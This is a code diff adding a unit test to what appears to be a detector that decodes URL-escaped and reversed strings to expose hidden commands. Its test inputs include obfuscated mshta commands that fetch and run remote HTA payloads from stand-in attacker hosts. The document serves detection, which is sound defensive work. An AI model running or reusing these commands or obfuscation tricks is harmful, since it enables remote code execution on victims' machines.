@@ -107,6 +107,16 @@ def test_hex_and_unicode_and_url_escapes() -> None:
     assert list(decode_url_escapes("%6D%73%68%74%61")) == ["mshta"]
 
 
+def test_letters_escaped_between_plain_ones_are_read_in_the_whole_text() -> None:
+    # no run of escapes is long enough to be the address; the whole text read is
+    hidden = "mshta %68tt%70s://o%62ad.w%68it%62ec%6b.invalid/h"
+    assert "mshta https://obad.whitbeck.invalid/h" in list(decode_url_escapes(hidden))
+    # ordinary escapes (spaces, slashes, UTF-8) are no letters: the runs alone, as before
+    query = "https://www.example.com/search?q=hello%20world%21%3F%26&to=%2Fhome"
+    assert query.replace("%20", " ") not in list(decode_url_escapes(query))
+    assert list(decode_url_escapes("https://ja.example.org/wiki/%E6%9D%B1%E4%BA%AC")) == ["東京"]
+
+
 def test_reversed_only_with_a_reversal_hint() -> None:
     hidden = "'atv.ssf/tset.live//:sptth athsm'[-1..-100] -join ''"
     assert any("mshta https://evil.test/fss.vta" in d for d in decode_reversed(hidden))
